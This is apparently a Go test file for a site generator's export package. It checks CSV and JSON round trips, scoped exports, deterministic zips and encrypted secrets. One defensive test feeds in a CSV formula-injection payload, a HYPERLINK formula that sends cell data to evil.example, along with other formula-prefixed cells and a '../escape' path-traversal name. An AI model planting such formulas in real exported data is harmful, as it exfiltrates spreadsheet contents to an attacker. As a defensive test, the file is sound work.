package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/cairn-it/cairn/generator/access"
	"github.com/cairn-it/cairn/generator/export"
	"github.com/cairn-it/cairn/generator/markdown"
	"github.com/cairn-it/cairn/generator/model"
	"github.com/cairn-it/cairn/generator/secrets"
	"github.com/cairn-it/cairn/generator/site/sitetest"
	"github.com/cairn-it/cairn/generator/testsite"
)

// demoRoot is the project root, which is itself the demo site.
var demoRoot = func() string {
	_, file, _, _ := runtime.Caller(0)
	return filepath.Join(filepath.Dir(file), "..", "..")
}()

var today = sitetest.Day

func openSite(t *testing.T, root string) *model.Site { return sitetest.Valid(t, root) }

// mem is a Sink that keeps the files, and fails on a name given twice or
// out of order.
type mem struct {
	names []string
	files map[string][]byte
}

func (m *mem) Add(name string, data []byte) error {
	if m.files == nil {
		m.files = map[string][]byte{}
	}
	if _, ok := m.files[name]; ok {
		return fmt.Errorf("%s added twice", name)
	}
	if n := len(m.names); n > 0 && m.names[n-1] >= name {
		return fmt.Errorf("%s added after %s", name, m.names[n-1])
	}
	m.names = append(m.names, name)
	m.files[name] = data
	return nil
}

func run(t *testing.T, s *model.Site, opts export.Options) *mem {
	t.Helper()
	m := &mem{}
	if _, err := export.Export(context.Background(), s, opts, m); err != nil {
		t.Fatal(err)
	}
	return m
}

// roundTrip reads every table of an export back and compares it with the
// model: every item once, its keys and values equal; Markdown files and
// attachments byte for byte; organizations' keys equal.
func roundTrip(t *testing.T, s *model.Site, m *mem, format string, org, typ string) {
	t.Helper()
	seen := map[string]bool{}
	for name, data := range m.files {
		if !strings.HasSuffix(name, "."+format) || strings.HasPrefix(name, "content/") || name == "organizations."+format {
			continue
		}
		typName := strings.TrimSuffix(name, "."+format)
		var recs []export.Record
		var err error
		if format == "csv" {
			recs, err = export.ReadCSV(s.Schemas.Get(typName), data)
		} else {
			recs, err = export.ReadJSON(data)
		}
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, r := range recs {
			it := s.Item(r.ID)
			if it == nil || it.Type != typName || it.Org != r.Org || it.File != r.File {
				t.Fatalf("%s: record %s %s %s is not an item of the type", name, r.ID, r.Org, r.File)
			}
			if want := export.PlainTable(it.Fields); !reflect.DeepEqual(r.Fields, want) {
				a, _ := json.Marshal(r.Fields)
				b, _ := json.Marshal(want)
				t.Errorf("%s: %s reads back as\n%s\nwant\n%s", name, r.ID, a, b)
			}
			seen[r.ID] = true
			if it.IsMarkdown() {
				md, ok := m.files[it.File]
				if !ok {
					t.Fatalf("%s: no %s in the export", r.ID, it.File)
				}
				_, _, body, _, err := markdown.SplitFrontMatter(md)
				if err != nil || !bytes.Equal(body, it.Body.Source) {
					t.Errorf("%s: the exported Markdown's body differs (%v)", r.ID, err)
				}
			}
		}
	}
	for _, it := range s.Items {
		if (org == "" || it.Org == org) && (typ == "" || it.Type == typ) && !seen[it.ID] {
			t.Errorf("%s is not in the %s export", it.ID, format)
		}
	}
	if org == "" && (typ == "" || typ == "checklists") {
		for _, tm := range s.Templates {
			want, err := os.ReadFile(filepath.Join(s.Root, filepath.FromSlash(tm.File)))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(m.files[tm.File], want) {
				t.Errorf("template %s is not copied byte for byte", tm.File)
			}
		}
	}
	if typ == "" {
		for _, f := range s.Files {
			if org != "" && !strings.HasPrefix(f, org+"/") {
				continue
			}
			want, err := os.ReadFile(filepath.Join(s.Root, "content", filepath.FromSlash(f)))
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(m.files["content/"+f], want) {
				t.Errorf("attachment %s is not copied byte for byte", f)
			}
		}
		orgs, err := export.ReadOrgs(m.files["organizations."+format], format)
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, o := range s.Orgs {
			if org != "" && o.Slug != org {
				continue
			}
			want := export.PlainTable(o.Fields)
			want["slug"] = o.Slug
			if n >= len(orgs) || !reflect.DeepEqual(orgs[n], want) {
				t.Errorf("organization %s does not read back", o.Slug)
			}
			n++
		}
		if n != len(orgs) {
			t.Errorf("organizations: %d read back, want %d", len(orgs), n)
		}
	}
}

func TestRoundTripDemo(t *testing.T) {
	s := openSite(t, demoRoot)
	for _, format := range export.Formats {
		t.Run(format, func(t *testing.T) {
			m := run(t, s, export.Options{Format: format})
			roundTrip(t, s, m, format, "", "")
			if _, ok := m.files["assets/backup."+format]; !ok {
				t.Errorf("no assets/backup.%s in %v", format, m.names)
			}
		})
	}
}

// TestRoundTripSyntheticSite exports a generated site of every core type
// and several flexible types, with groups, lists, dates and numbers from
// the schemas, in both formats, and reads it back.
func TestRoundTripSyntheticSite(t *testing.T) {
	root := filepath.Join(t.TempDir(), "site")
	if err := testsite.Write(root, testsite.Options{Items: 400, Seed: 7}); err != nil {
		t.Fatal(err)
	}
	s := openSite(t, root)
	for _, format := range export.Formats {
		t.Run(format, func(t *testing.T) {
			roundTrip(t, s, run(t, s, export.Options{Format: format}), format, "", "")
		})
	}
}

// TestPortalScope: with a portal's view as scope, the export holds exactly
// the items, organizations and attachments the portal shows.
func TestPortalScope(t *testing.T) {
	s := openSite(t, demoRoot)
	v, err := access.NewView(s, "ferrum")
	if err != nil {
		t.Fatal(err)
	}
	m := run(t, s, export.Options{Format: "json", Scope: v})
	got := map[string]bool{}
	for name, data := range m.files {
		if strings.HasPrefix(name, "content/") {
			if f := strings.TrimPrefix(name, "content/"); strings.Contains(f, "/files/") && !v.CanSeeFile(f) {
				t.Errorf("%s is exported but the portal does not carry it", name)
			}
			continue
		}
		if name == "organizations.json" {
			orgs, err := export.ReadOrgs(data, "json")
			if err != nil {
				t.Fatal(err)
			}
			for _, o := range orgs {
				if !v.CanSeeOrg(o["slug"].(string)) {
					t.Errorf("organization %s is exported but the portal does not show it", o["slug"])
				}
			}
			continue
		}
		recs, err := export.ReadJSON(data)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs {
			got[r.ID] = true
		}
	}
	for _, it := range s.Items {
		if got[it.ID] != v.CanSee(it.ID) {
			t.Errorf("%s: exported %v, seen by the portal %v", it.ID, got[it.ID], v.CanSee(it.ID))
		}
	}
	if len(got) == 0 || len(got) == len(s.Items) {
		t.Fatalf("the scoped export holds %d of %d items", len(got), len(s.Items))
	}
	for _, f := range v.Files() {
		if _, ok := m.files["content/"+f]; !ok {
			t.Errorf("the portal's attachment %s is not exported", f)
		}
	}
	if _, err := export.Export(context.Background(), s, export.Options{Format: "csv", Scope: v, Org: "harlowpike"}, &mem{}); err == nil || err.Error() != `no organization "harlowpike"` {
		t.Errorf("an organization out of scope: %v", err)
	}
}

// tricky holds values a naive CSV writer gets wrong.
var tricky = map[string]string{
	"cairn.toml":  "title = \"T\"\n",
	"access.toml": "",
	"schemas/kit.toml": `name = "Kits"
singular = "Kit"

[[fields]]
name = "name"
kind = "text"
use_for_title = true

[[fields]]
name = "count"
kind = "number"

[[fields]]
name = "ratio"
kind = "percent"

[[fields]]
name = "ok"
kind = "checkbox"

[[fields]]
name = "bought"
kind = "date"

[[fields]]
name = "labels"
kind = "text"
multiple = true

[[fields]]
name = "ports"
kind = "group"
multiple = true
  [[fields.fields]]
  name = "port"
  kind = "number"
  [[fields.fields]]
  name = "label"
  kind = "text"
  [[fields.fields]]
  name = "since"
  kind = "date"
`,
	"content/acme/org.toml":           "name = \"Acme, \\\"the\\\" client\"\nkind = \"client\"\nquick_notes = \"\"\"\nline one\nline \"two\", three\n\"\"\"\n\n[[alerts]]\nlevel = \"info\"\nmessage = \"hi\"\n",
	"content/acme/assets/kit/k1.toml": "name = \"k1, with comma\"\ncount = 9007199254740993\nratio = 12.5\nok = false\nbought = 2026-01-02\nlabels = [\"[a]\", \"\\\"b\\\"\", \"\"]\nnotes = \"\"\"\nmulti\nline \"quoted\"\n\"\"\"\narchived = true\n\n[[ports]]\nport = 443\nlabel = \"\"\nsince = 2025-12-31\n\n[[ports]]\nport = 8443\n",
	"content/acme/assets/kit/k2.toml": "name = \"\\\"quoted\\\" start\"\nlabels = \"[not json\"\nbought = \"2026-02-03\"\nnotes = \"\"\nrelated = [\"assets/kit/k1\"]\n",
	"content/acme/assets/kit/k3.toml": "name = \"k3\"\ncount = -0.5\nok = true\n",
}

func writeSite(t *testing.T, files map[string]string) string { return sitetest.Write(t, files) }

func TestRoundTripTrickyValues(t *testing.T) {
	s := openSite(t, writeSite(t, tricky))
	for _, format := range export.Formats {
		t.Run(format, func(t *testing.T) {
			m := run(t, s, export.Options{Format: format})
			roundTrip(t, s, m, format, "", "")
		})
	}
	m := run(t, s, export.Options{Format: "csv"})
	want := "id,org,file,name,count,ratio,ok,bought,labels,ports,archived,notes,related\n" +
		`acme/assets/kit/k1,acme,content/acme/assets/kit/k1.toml,"k1, with comma",9007199254740993,12.5,false,2026-01-02,"[""[a]"",""\""b\"""",""""]","[{""label"":"""",""port"":443,""since"":""2025-12-31""},{""port"":8443}]",true,"multi` + "\n" + `line ""quoted""` + "\n" + `",` + "\n" +
		`acme/assets/kit/k2,acme,content/acme/assets/kit/k2.toml,"""\""quoted\"" start""",,,,2026-02-03,"""[not json""",,,"""""","[""assets/kit/k1""]"` + "\n" +
		"acme/assets/kit/k3,acme,content/acme/assets/kit/k3.toml,k3,-0.5,,true,,,,,,\n"
	if got := string(m.files["assets/kit.csv"]); got != want {
		t.Errorf("assets/kit.csv:\n%s\nwant\n%s", got, want)
	}
}

func TestFilters(t *testing.T) {
	s := openSite(t, demoRoot)
	m := run(t, s, export.Options{Format: "csv", Org: "ferrum"})
	roundTrip(t, s, m, "csv", "ferrum", "")
	for _, n := range m.names {
		if strings.HasPrefix(n, "content/") && !strings.HasPrefix(n, "content/ferrum/") {
			t.Errorf("the ferrum export holds %s", n)
		}
	}
	m = run(t, s, export.Options{Format: "json", Org: "ferrum", Type: "checklists"})
	roundTrip(t, s, m, "json", "ferrum", "checklists")
	for _, n := range m.names {
		if n != "checklists.json" && !strings.HasPrefix(n, "content/ferrum/checklists/") {
			t.Errorf("the ferrum checklists export holds %s", n)
		}
	}
	m = run(t, s, export.Options{Format: "csv", Type: "backup"})
	if len(m.names) == 0 || m.names[0] != "assets/backup.csv" {
		t.Errorf("--type backup wrote %v", m.names)
	}
	for _, c := range []struct {
		opts export.Options
		want string
	}{
		{export.Options{Format: "xml"}, `format "xml": want csv or json`},
		{export.Options{Format: "csv", Org: "nobody"}, `no organization "nobody"`},
		{export.Options{Format: "csv", Type: "gizmos"}, `unknown type "gizmos"; types: `},
		{export.Options{Format: "csv", Secrets: fakeSecrets{}}, `secrets are exported only encrypted: give a recipient (age1...)`},
	} {
		_, err := export.Export(context.Background(), s, c.opts, &mem{})
		if err == nil || !strings.HasPrefix(err.Error(), c.want) {
			t.Errorf("%+v: %v, want %s", c.opts, err, c.want)
		}
	}
}

type fakeSecrets struct{}

func (fakeSecrets) Secrets(ctx context.Context, it *model.Item) (map[string]string, error) {
	return map[string]string{"password": "canary-" + it.ID}, nil
}

// TestSecrets: without a source no secret is read; with one, the values
// are only in the encrypted file, which the recipient's key opens.
func TestSecrets(t *testing.T) {
	s := openSite(t, demoRoot)
	keys, err := secrets.LoadKeys(secrets.KeyOptions{Getenv: func(string) string { return "" }, SiteKeyFile: filepath.Join(demoRoot, s.Config.SopsAgeKeyFile)})
	if err != nil {
		t.Fatal(err)
	}
	store := &secrets.Store{Root: s.Root, Keys: keys}
	var withSecrets []*model.Item
	for _, it := range s.Items {
		if it.Secrets != "" {
			withSecrets = append(withSecrets, it)
		}
	}
	if len(withSecrets) == 0 {
		t.Fatal("the demo has no secrets")
	}
	var canaries []string
	for _, it := range withSecrets {
		vals, err := store.Secrets(context.Background(), it)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range vals {
			if len(v) >= 6 {
				canaries = append(canaries, v)
			}
		}
	}
	leaks := func(m *mem) int {
		n := 0
		for _, data := range m.files {
			for _, c := range canaries {
				if bytes.Contains(data, []byte(c)) {
					n++
				}
			}
		}
		return n
	}
	for _, format := range export.Formats {
		m := run(t, s, export.Options{Format: format})
		if _, ok := m.files[export.SecretsFile]; ok || leaks(m) > 0 {
			t.Fatalf("%s: an export without secrets holds a secret value", format)
		}
	}

	text, recipient, err := secrets.NewKeyFile(today, "export test")
	if err != nil {
		t.Fatal(err)
	}
	m := run(t, s, export.Options{Format: "csv", Secrets: store, Encrypt: secrets.EncryptTo, Recipients: []string{recipient}})
	if leaks(m) > 0 {
		t.Fatal("a secret value is in the export outside the encrypted file")
	}
	enc, ok := m.files[export.SecretsFile]
	if !ok {
		t.Fatalf("no %s in %v", export.SecretsFile, m.names)
	}
	if _, err := keys.DecryptAge(enc, 1<<20); err == nil {
		t.Fatal("the demo key opens a file encrypted to another recipient")
	}
	mine, err := secrets.ParseKeys(text)
	if err != nil {
		t.Fatal(err)
	}
	plain, err := mine.DecryptAge(enc, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	var got map[string]map[string]string
	if err := json.Unmarshal(plain, &got); err != nil {
		t.Fatal("the secrets file is not JSON")
	}
	for _, it := range withSecrets {
		want, _ := store.Secrets(context.Background(), it)
		if len(want) > 0 && !reflect.DeepEqual(got[it.ID], want) {
			t.Errorf("the secrets of %s do not read back (keys %v, want %v)", it.ID, sortedKeys(got[it.ID]), sortedKeys(want))
		}
	}
}

func sortedKeys(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// TestZipIsDeterministic writes the demo twice and gets the same bytes;
// the entries are the files in order, with the fixed time.
func TestZipIsDeterministic(t *testing.T) {
	s := openSite(t, demoRoot)
	dir := t.TempDir()
	var outs [][]byte
	for _, name := range []string{"a.zip", "b.zip"} {
		out, err := export.NewZip(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := export.Export(context.Background(), s, export.Options{Format: "csv"}, out); err != nil {
			out.Abort()
			t.Fatal(err)
		}
		if err := out.Commit(); err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		outs = append(outs, b)
	}
	if !bytes.Equal(outs[0], outs[1]) {
		t.Fatal("two exports of the same site differ")
	}
	zr, err := zip.NewReader(bytes.NewReader(outs[0]), int64(len(outs[0])))
	if err != nil {
		t.Fatal(err)
	}
	m := run(t, s, export.Options{Format: "csv"})
	if len(zr.File) != len(m.names) {
		t.Fatalf("zip has %d entries, want %d", len(zr.File), len(m.names))
	}
	for i, f := range zr.File {
		if f.Name != m.names[i] || !f.Modified.Equal(time.Date(1980, 1, 1, 0, 0, 0, 0, time.UTC)) {
			t.Errorf("entry %d: %s %v", i, f.Name, f.Modified)
		}
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 2 {
		t.Errorf("the folder holds %d entries, want the two zips only", len(entries))
	}
}

func TestDirOutput(t *testing.T) {
	s := openSite(t, writeSite(t, tricky))
	parent := t.TempDir()
	dir := filepath.Join(parent, "out")
	out, err := export.NewDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := export.Export(context.Background(), s, export.Options{Format: "json"}, out); err != nil {
		t.Fatal(err)
	}
	if err := out.Commit(); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "assets", "kit.json")); err != nil || !bytes.Contains(b, []byte(`"id": "acme/assets/kit/k1"`)) {
		t.Fatalf("assets/kit.json: %v\n%s", err, b)
	}
	if entries, _ := os.ReadDir(parent); len(entries) != 1 {
		t.Errorf("the parent holds %d entries, want the export only", len(entries))
	}
	if _, err := export.NewDir(dir); err == nil || err.Error() != dir+" is not empty: export into a new or empty folder" {
		t.Errorf("a second export into the folder: %v", err)
	}
	// An aborted export leaves nothing behind.
	out, err = export.NewDir(filepath.Join(parent, "other"))
	if err != nil {
		t.Fatal(err)
	}
	if err := out.Add("../escape", []byte("x")); err == nil {
		t.Error("a name out of the folder was accepted")
	}
	out.Abort()
	if entries, _ := os.ReadDir(parent); len(entries) != 1 {
		t.Errorf("after an abort the parent holds %d entries", len(entries))
	}
}

// TestCSVCellsASpreadsheetWouldRun: a text cell starting with =, +, -, @,
// a tab or a carriage return (a hostile "=HYPERLINK(...)" from a pull
// request) is written as a JSON string, which a spreadsheet shows as text,
// and still reads back to the value.
func TestCSVCellsASpreadsheetWouldRun(t *testing.T) {
	files := map[string]string{}
	for k, v := range tricky {
		if !strings.HasPrefix(k, "content/acme/assets/") {
			files[k] = v
		}
	}
	files["content/acme/assets/kit/f1.toml"] = "name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'\nlabels = [\"@SUM(1)\", \"ok\"]\nnotes = \"+1 555 0150\"\ncount = -3\n"
	files["content/acme/assets/kit/f2.toml"] = "name = \"-2+3\"\nnotes = \"\\tcmd\"\n"
	s := openSite(t, writeSite(t, files))
	m := run(t, s, export.Options{Format: "csv"})
	want := "id,org,file,name,count,ratio,ok,bought,labels,ports,notes\n" +
		`acme/assets/kit/f1,acme,content/acme/assets/kit/f1.toml,"""=HYPERLINK(\""http://evil.example/?\""&A1,\""open\"")""",-3,,,,"[""@SUM(1)"",""ok""]",,"""+1 555 0150"""` + "\n" +
		`acme/assets/kit/f2,acme,content/acme/assets/kit/f2.toml,"""-2+3""",,,,,,,"""\tcmd"""` + "\n"
	if got := string(m.files["assets/kit.csv"]); got != want {
		t.Errorf("assets/kit.csv:\n%s\nwant\n%s", got, want)
	}
	roundTrip(t, s, m, "csv", "", "")
}

// TestOrganizationsKeepEveryKey: organizations.csv has a column for every
// key org.toml may set, import_id and suppress included, so an imported
// organization reads back with the id a later import merges by.
func TestOrganizationsKeepEveryKey(t *testing.T) {
	files := map[string]string{}
	for k, v := range tricky {
		files[k] = v
	}
	files["content/acme/org.toml"] = "name = \"Acme\"\nkind = \"client\"\nimport_id = \"itglue/organizations/42\"\nsuppress = [{rule = \"documents-before-assets\", reason = \"a prospect, \\\"proposal\\\" first\"}]\n"
	s := openSite(t, writeSite(t, files))
	for _, format := range export.Formats {
		t.Run(format, func(t *testing.T) {
			roundTrip(t, s, run(t, s, export.Options{Format: format}), format, "", "")
		})
	}
	want := "slug,name,kind,status,shared,short_name,description,quick_notes,alerts,import_id,suppress\n" +
		`acme,Acme,client,,,,,,,itglue/organizations/42,"[{""reason"":""a prospect, \""proposal\"" first"",""rule"":""documents-before-assets""}]"` + "\n"
	got := string(run(t, s, export.Options{Format: "csv"}).files["organizations.csv"])
	if got != want {
		t.Errorf("organizations.csv:\n%s\nwant\n%s", got, want)
	}
	// A key model.Org reads gets a column, so one added later is not
	// silently left out of the CSV.
	header := "," + strings.SplitN(got, "\n", 2)[0] + ","
	org := reflect.TypeOf(model.Org{})
	for i := range org.NumField() {
		key := strings.Split(org.Field(i).Tag.Get("toml"), ",")[0]
		if key != "" && key != "-" && !strings.Contains(header, ","+key+",") {
			t.Errorf("org.toml's key %q has no column in organizations.csv", key)
		}
	}
}

// TestItemSuppressReadsBack: an item's suppress (an array of tables, a
// reserved key of every item) is a JSON cell that reads back as the array.
func TestItemSuppressReadsBack(t *testing.T) {
	files := map[string]string{}
	for k, v := range tricky {
		files[k] = v
	}
	files["content/acme/assets/kit/k3.toml"] = "name = \"k3\"\nimport_id = \"itglue/kits/7\"\nsuppress = [{rule = \"naming\", reason = \"the vendor's name, kept\"}]\n"
	s := openSite(t, writeSite(t, files))
	for _, format := range export.Formats {
		t.Run(format, func(t *testing.T) {
			roundTrip(t, s, run(t, s, export.Options{Format: format}), format, "", "")
		})
	}
}
